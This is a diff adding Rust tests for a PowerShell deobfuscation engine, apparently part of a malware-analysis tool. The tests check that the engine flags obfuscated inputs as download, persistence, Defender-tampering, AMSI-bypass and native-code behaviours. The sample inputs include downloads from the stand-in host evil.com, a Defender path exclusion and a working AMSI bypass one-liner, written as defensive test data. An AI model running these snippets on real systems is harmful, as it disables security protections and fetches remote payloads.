@@ -0,0 +1,159 @@
+#[cfg(test)]
+mod tests_ps_behaviour {
+    use crate::engine::DeobfuscateEngine;
+    use crate::ps::backend::PowershellBackend;
+    use crate::ps::behaviour::{Behaviour, BehaviourKind};
+
+    fn behaviours(input: &str) -> Vec<Behaviour> {
+        let mut engine = DeobfuscateEngine::<PowershellBackend>::from_powershell(input).unwrap();
+        engine.deobfuscate().unwrap();
+        engine.behaviours().unwrap()
+    }
+
+    fn summary(input: &str) -> Vec<(BehaviourKind, String, Vec<String>)> {
+        behaviours(input)
+            .into_iter()
+            .map(|behaviour| {
+                (
+                    behaviour.kind,
+                    behaviour.api,
+                    behaviour
+                        .arguments
+                        .into_iter()
+                        .map(|argument| argument.value)
+                        .collect(),
+                )
+            })
+            .collect()
+    }
+
+    #[test]
+    fn test_invoke_webrequest_with_inferred_uri() {
+        let behaviours = behaviours("iwr -Uri ('http://'+'evil.com/a.ps1') -OutFile a.ps1");
+        assert_eq!(behaviours.len(), 1);
+        assert_eq!(behaviours[0].kind, BehaviourKind::Download);
+        assert_eq!(behaviours[0].api, "Invoke-WebRequest");
+        assert_eq!(behaviours[0].arguments[0].name.as_deref(), Some("Uri"));
+        assert_eq!(behaviours[0].arguments[0].value, "http://evil.com/a.ps1");
+        assert_eq!(behaviours[0].arguments[1].name.as_deref(), Some("OutFile"));
+    }
+
+    #[test]
+    fn test_webclient_download_string() {
+        assert_eq!(
+            summary("(New-Object Net.WebClient).DownloadString('http://'+'evil.com')"),
+            vec![(
+                BehaviourKind::Download,
+                "Net.WebClient.DownloadString".to_string(),
+                vec!["http://evil.com".to_string()]
+            )]
+        );
+    }
+
+    #[test]
+    fn test_webclient_download_file_through_variable() {
+        assert_eq!(
+            summary(
+                "$wc = New-Object System.Net.WebClient\n$wc.downloadfile('http://evil.com/a.exe', 'C:\\a.exe')"
+            ),
+            vec![(
+                BehaviourKind::Download,
+                "Net.WebClient.DownloadFile".to_string(),
+                vec!["http://evil.com/a.exe".to_string(), "C:\\a.exe".to_string()]
+            )]
+        );
+    }
+
+    #[test]
+    fn test_wildcard_start_process() {
+        assert_eq!(
+            summary("St*t-Pro*ss calc.exe"),
+            vec![(
+                BehaviourKind::Execution,
+                "Start-Process".to_string(),
+                vec!["calc.exe".to_string()]
+            )]
+        );
+    }
+
+    #[test]
+    fn test_run_key_persistence() {
+        assert_eq!(
+            summary(
+                "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a -Value ('C:\\'+'a.exe')"
+            ),
+            vec![(
+                BehaviourKind::Persistence,
+                "Set-ItemProperty".to_string(),
+                vec![
+                    "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run".to_string(),
+                    "a".to_string(),
+                    "C:\\a.exe".to_string()
+                ]
+            )]
+        );
+    }
+
+    #[test]
+    fn test_other_registry_key_is_not_persistence() {
+        assert!(summary("Set-ItemProperty -Path 'HKCU:\\Software\\a' -Name a -Value b").is_empty());
+    }
+
+    #[test]
+    fn test_scheduled_task() {
+        let behaviours = behaviours("$a = New-ScheduledTaskAction -Execute 'calc.exe'");
+        assert_eq!(behaviours[0].kind, BehaviourKind::Persistence);
+        assert_eq!(behaviours[0].api, "New-ScheduledTaskAction");
+    }
+
+    #[test]
+    fn test_defender_exclusion() {
+        assert_eq!(
+            summary("Add-MpPreference -ExclusionPath ('C:'+'\\')"),
+            vec![(
+                BehaviourKind::DefenderTampering,
+                "Add-MpPreference".to_string(),
+                vec!["C:\\".to_string()]
+            )]
+        );
+    }
+
+    #[test]
+    fn test_reflection_assembly_load() {
+        let behaviours = behaviours("[Reflection.Assembly]::Load($bytes)");
+        assert_eq!(behaviours[0].kind, BehaviourKind::AssemblyLoad);
+        assert_eq!(behaviours[0].api, "Reflection.Assembly.Load");
+    }
+
+    #[test]
+    fn test_amsi_bypass() {
+        let behaviours = behaviours(
+            "[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)",
+        );
+        assert_eq!(behaviours.len(), 1);
+        assert_eq!(behaviours[0].kind, BehaviourKind::AmsiBypass);
+        assert_eq!(behaviours[0].api, "AmsiUtils");
+        assert_eq!(
+            behaviours[0]
+                .arguments
+                .iter()
+                .map(|argument| argument.value.as_str())
+                .collect::<Vec<&str>>(),
+            vec!["System.Management.Automation.AmsiUtils", "amsiInitFailed"]
+        );
+    }
+
+    #[test]
+    fn test_virtualalloc_add_type() {
+        let behaviours = behaviours(
+            "Add-Type -TypeDefinition ('[DllImport(\"kernel32.dll\")] public static extern IntPtr Virtual'+'Alloc(IntPtr a, uint b, uint c, uint d);')",
+        );
+        assert_eq!(behaviours[0].kind, BehaviourKind::NativeCode);
+        assert_eq!(behaviours[0].api, "Add-Type");
+    }
+
+    #[test]
+    fn test_harmless_script() {
+        assert!(summary("Write-Host ('hello'+' world')").is_empty());
+    }
+}